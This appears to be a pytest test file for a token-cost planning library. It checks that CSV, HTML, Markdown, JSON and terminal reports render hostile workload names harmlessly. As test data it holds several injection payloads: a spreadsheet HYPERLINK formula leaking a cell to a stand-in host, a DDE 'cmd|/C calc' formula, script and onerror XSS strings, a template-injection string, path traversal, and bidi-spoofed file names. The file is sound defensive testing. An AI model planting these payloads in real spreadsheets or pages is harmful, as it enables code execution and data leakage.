"""Hostile names and texts come out harmless in every form that a report has."""

import csv
import io
import json
import re
from datetime import date

import matplotlib as mpl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kimi_planner import (
    KimiPlannerError,
    Workload,
    load_catalog,
    load_workloads,
    project,
    recommend,
)
from kimi_planner.report import reconcile
from kimi_planner.report.html import html_report
from kimi_planner.report.json_form import plan_json
from kimi_planner.report.table import Table
from kimi_planner.report.text import markdown, markdown_report, plan_text, sentence_text
from kimi_planner.report.usage import spend_text
from kimi_planner.safe import MAX_LINE_CHARS, as_written, csv_cell, csv_text, on_one_line
from kimi_planner.usage import spend_by

mpl.use("Agg")
AS_OF = date(2026, 11, 24)
NAMES = (
    '=HYPERLINK("http://x.invalid/?"&A1,"open")',
    "<script>alert(1)</script>",
    "../../x",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "'=1",
    "# heading",
    "1. one",
    "$\\frac{1}{$ $x$",
    "</svg><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "`code` *x* [a](javascript:b) ~~c~~",
)
UNSEEN = "a\u202egpj.exe\u2066b\u200fc\x1b[31md\x00e"
SOURCE = f"{UNSEEN}\r\n=1+1\n" + "x" * 100_000


@pytest.fixture(scope="module")
def hostile():
    """Plan workloads with hostile names; every text that a user gives is hostile."""
    workloads = [
        Workload(
            name=name, requests_per_day=5, prompt_tokens=10, completion_tokens=10, source=SOURCE,
            notes=(SOURCE,), events=({"name": name, "date": "2026-12-05", "factor": 2},),
        )
        for name in NAMES
    ]  # fmt: skip
    return recommend(workloads, months=1, as_of=AS_OF, models=["kimi-k2", "kimi-k2-5"])


@pytest.mark.parametrize("name", ["x" * 10_000_000, "x" * 201, "a\u202eb", "a\x00b", "a\tb"])
def test_a_name_that_cannot_be_shown_is_refused(name, tmp_path):
    """A name of 10 MB, or with what turns or hides writing, is refused in one short line."""
    path = tmp_path / "w.toml"
    numbers = "requests_per_day = 1\nprompt_tokens = 1\ncompletion_tokens = 1\n"
    text = f"[[workload]]\nname = {json.dumps(name)}\n{numbers}"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(KimiPlannerError) as caught:
        load_workloads(path)
    assert len(str(caught.value)) < 500
    with pytest.raises(KimiPlannerError) as caught:
        Workload(name=name, requests_per_day=1, prompt_tokens=1, completion_tokens=1)
    assert str(caught.value).isprintable()


def test_ten_megabytes_of_text_are_cut_on_a_line():
    """A text of any size is shown in short, and says that it is cut."""
    shown = on_one_line("\u202e" * 10_000_000)
    assert len(shown) == MAX_LINE_CHARS
    assert shown.startswith("\\u202e\\u202e")
    assert shown.endswith("…")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (UNSEEN, r"a\u202egpj.exe\u2066b\u200fc\x1b[31md\x00e"),
        ("one\r\n\ttwo", "one two"),
        ("two  spaces", "two  spaces"),
        ("\ud800", r"\ud800"),
        ("家族 👨\u200d👩 می\u200cخواهم", "家族 👨\u200d👩 می\u200cخواهم"),
    ],
)
def test_what_cannot_be_seen_is_shown(text, shown):
    """Controls and marks that turn writing are escapes; other writing stays as it is."""
    assert on_one_line(text) == shown


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\n\t+", "'=", "''@"])
def test_a_formula_in_a_csv_cell_is_text(start):
    """What a spreadsheet would calculate is led by an apostrophe."""
    assert csv_cell(f"{start}1") == f"'{start}1"


@pytest.mark.parametrize("text", ["a=1", "1+1", "it's", "'quoted'", "", "−5", "5 - 3"])
def test_other_text_in_a_csv_cell_is_as_it_is(text):
    """What no spreadsheet calculates is not changed."""
    assert csv_cell(text) == text


@given(st.text(st.sampled_from("'=+-@ \t\nab"), max_size=8))
def test_a_csv_cell_reads_back_as_it_was_written(text):
    """The apostrophe of a cell is undone exactly, also where the text had some of its own."""
    cell = csv_cell(text)
    assert as_written(cell) == text
    assert not re.match(r"\s*[=+\-@\t\r]", cell)


def test_numbers_in_csv_are_numbers():
    """Only text is touched: negative numbers keep their sign, missing ones stay missing."""
    frame = pd.DataFrame({"=x": ["-a", None], "usd": [-1.5, 2.0], "n": [-1, 2]})
    assert csv_text(frame) == "'=x,usd,n\n'-a,-1.5,-1\n,2.0,2\n"


def test_csv_of_a_plan_has_no_formula_and_reads_back(hostile, tmp_path):
    """No text cell of a plan begins as a formula, and reconciling finds the names again."""
    text = csv_text(hostile.projection.frame)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [as_written(row["workload"]) for row in rows[::2]] == list(NAMES)
    assert not any(row["workload"].lstrip().startswith(tuple("=+-@")) for row in rows)
    path = tmp_path / "plan.csv"
    path.write_text(text, encoding="utf-8")
    calls = pd.DataFrame(
        {
            "timestamp": pd.date_range("2026-12-01", periods=len(NAMES), tz="UTC"),
            "model": "kimi-k2",
            "prompt_tokens": 10,
            "completion_tokens": 10,
            "team": NAMES,
        }
    )
    found = reconcile(path, calls, choice="kimi-k2", workload="team")
    assert set(found.months["workload"]) == set(NAMES)


def test_html_shows_names_as_text(hostile):
    """The page has no element and no template of a name, in its words and in its pictures."""
    page = html_report(hostile)
    own = re.sub(r'<script>"use strict";.*?</script>', "", page, flags=re.S)
    own = re.sub(r'<script type="application/json" id="numbers">[^<]*</script>', "", own)
    assert not re.search(r"<\s*(script|img|iframe|object|a)\b", own)
    assert "onerror" not in re.sub(r"&lt;/svg&gt;&lt;img src=x onerror=alert\(1\)&gt;", "", own)
    assert "{{ 7 * 7 }}{% raw %}" in page
    assert r"\u202egpj.exe" in page
    assert not set(UNSEEN) & set(page) & set("\u202e\u2066\u200f\x1b\x00")
    assert len(page) < 1_000_000


def test_markdown_shows_names_as_text(hostile):
    """No name makes a heading, a list, a tag, code or a link, and none ends a table's row."""
    text = markdown_report(hostile)
    assert "<script" not in text
    assert "<img" not in text
    assert not re.search(r"^#+ heading|^- # heading|^- 1\. one|(?<!\\)~~c", text, flags=re.M)
    assert not re.search(r"(?<!\\)\[a\]|(?<!\\)`", text)
    tables = [line for line in text.splitlines() if line.startswith("|")]
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in tables} == {4, 5, 6, 9, 11}
    assert max(map(len, text.splitlines())) < 20_000


def test_names_that_head_a_column_of_markdown_are_text():
    """Workloads of a log are heads of columns in the table of causes; none makes a tag or a column."""
    names = ("<script>alert(1)</script>", "a|b", "[x](http://x.invalid)", "`x`")
    head, *lines = markdown(Table(names, (("1", "2", "3", "4"),))).splitlines()
    assert "<" not in head
    assert not re.search(r"(?<!\\)[\[`]", head)
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in (head, *lines)} == {5}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("# a", r"\# a"),
        ("- a", r"\- a"),
        ("12. a", r"12\. a"),
        ("---", r"\---"),
        ("0.5 a", "0.5 a"),
    ],
)
def test_a_sentence_in_markdown_begins_as_text(text, shown):
    """What would make a heading, a list or a rule at the begin of a line is escaped."""
    assert sentence_text(text) == shown


@pytest.mark.parametrize("form", [plan_text, markdown_report])
def test_nothing_unseen_reaches_text(hostile, form):
    """No control and no mark that turns writing is in any line."""
    text = form(hostile)
    assert r"\u202e" in text
    assert all(line.isprintable() for line in text.splitlines())


def test_json_keeps_every_text_as_data(hostile):
    """JSON is for programs: names are as they were given."""
    plan = json.loads(plan_json(hostile))
    assert list(plan["recommended"]) == list(NAMES)


def test_values_of_a_log_are_text():
    """Columns of a log that name teams are text on a terminal and in CSV."""
    teams = [*NAMES, UNSEEN]
    log = pd.DataFrame(
        {"model": "kimi-k2", "prompt_tokens": 5, "completion_tokens": 1, "team": teams}
    )
    spend = spend_by(log, by="team")
    text = spend_text(spend, ("team",), load_catalog(), {})
    assert all(line.isprintable() for line in text.splitlines())
    rows = list(csv.DictReader(io.StringIO(csv_text(spend))))
    assert not any(row["team"].lstrip().startswith(tuple("=+-@")) for row in rows)
    assert {as_written(row["team"]) for row in rows} == {*NAMES, on_one_line(UNSEEN)}


def test_names_do_not_become_paths(tmp_path):
    """Files of a plan have fixed names, whatever its workloads are called."""
    from click.testing import CliRunner

    from kimi_planner.cli.report import command

    path = tmp_path / "w.toml"
    numbers = "requests_per_day = 1\nprompt_tokens = 1\ncompletion_tokens = 1\n"
    path.write_text(f'[[workload]]\nname = "../../x"\n{numbers}', encoding="utf-8")
    options = ["--as-of", "2026-11-24", "--format", "markdown,csv,json,xlsx,focus"]
    done = CliRunner().invoke(command, [str(path), *options, "--out", str(tmp_path / "a" / "b")])
    assert done.exit_code == 0, done.output
    written = {str(file.relative_to(tmp_path)) for file in tmp_path.rglob("*") if file.is_file()}
    names = (
        "report.md",
        "report.csv",
        "budget.csv",
        "statements.csv",
        "report.json",
        "report.xlsx",
        "focus.csv",
    )
    assert written == {"w.toml", *(f"a/b/{name}" for name in names)}


def test_results_show_names_as_text(hostile):
    """What Jupyter shows of results has no markup of a name."""
    for result in (
        hostile,
        hostile.projection,
        project(hostile.projection.workloads, 1, as_of=AS_OF),
    ):
        assert "<script" not in result._repr_html_()
        assert "<img" not in result._repr_html_()
